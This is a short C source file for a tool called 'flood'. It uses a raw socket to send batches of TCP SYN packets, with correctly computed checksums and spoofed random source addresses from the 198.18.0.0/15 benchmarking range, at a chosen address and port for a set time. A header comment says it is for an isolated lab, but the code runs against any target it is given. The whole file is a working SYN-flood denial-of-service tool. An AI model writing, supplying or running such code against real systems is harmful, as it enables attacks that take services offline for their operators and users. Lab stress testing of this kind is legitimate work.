// flood ADDRESS PORT SECONDS: TCP SYNs from random sources in 198.18.0.0/15 (RFC 2544, for benchmarks; IPv4 only) as fast as the machine sends
// them. Prints how many. For the lab's own namespaces: nothing there leads outside.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { Batch = 64 };

struct syn { struct iphdr ip; struct tcphdr tcp; };

static unsigned long long state = 88172645463325252ULL;

// xorshift64: chance is enough, secrecy is not needed.
static unsigned next_random(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (unsigned)(state >> 32);
}

static unsigned sum_of(const void *data, size_t bytes, unsigned sum) {
    for (const unsigned char *at = data; bytes; at += 2, bytes -= 2) sum += (unsigned)(at[0] << 8 | at[1]);
    return sum;
}

static unsigned short folded(unsigned sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((unsigned short)~sum);
}

static void fill(struct syn *syn, in_addr_t to, unsigned short port) {
    memset(syn, 0, sizeof *syn);
    syn->ip = (struct iphdr){ .version = 4, .ihl = 5, .tot_len = htons(sizeof *syn), .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to };
    syn->ip.saddr = htonl(0xc6120000u | (next_random() & 0x1ffff));
    syn->tcp = (struct tcphdr){ .source = htons((unsigned short)(1024 + next_random() % 64000)), .dest = port, .doff = 5, .syn = 1, .window = htons(64240) };
    syn->tcp.seq = next_random();
    unsigned pseudo = sum_of(&syn->ip.saddr, 8, IPPROTO_TCP + sizeof syn->tcp);
    syn->tcp.check = folded(sum_of(&syn->tcp, sizeof syn->tcp, pseudo));
}

int main(int count, char **words) {
    struct sockaddr_in to = { .sin_family = AF_INET };
    if (count != 4 || !inet_aton(words[1], &to.sin_addr)) { fputs("usage: flood ADDRESS PORT SECONDS\n", stderr); return 2; }
    unsigned short port = htons((unsigned short)atoi(words[2]));
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) { perror("flood: raw socket"); return 1; }

    static struct syn syns[Batch];
    struct iovec parts[Batch];
    struct mmsghdr messages[Batch];
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < Batch; i++) {
        parts[i] = (struct iovec){ &syns[i], sizeof syns[i] };
        messages[i].msg_hdr = (struct msghdr){ .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1 };
    }

    unsigned long sent = 0;
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    for (double end = (double)now.tv_sec + (double)now.tv_nsec / 1e9 + atof(words[3]); (double)now.tv_sec + (double)now.tv_nsec / 1e9 < end;) {
        for (int i = 0; i < Batch; i++) fill(&syns[i], to.sin_addr.s_addr, port);
        int done = sendmmsg(fd, messages, Batch, 0);
        if (done > 0) sent += (unsigned long)done;
        clock_gettime(CLOCK_MONOTONIC, &now);
    }

    printf("%lu\n", sent);
    return 0;
}
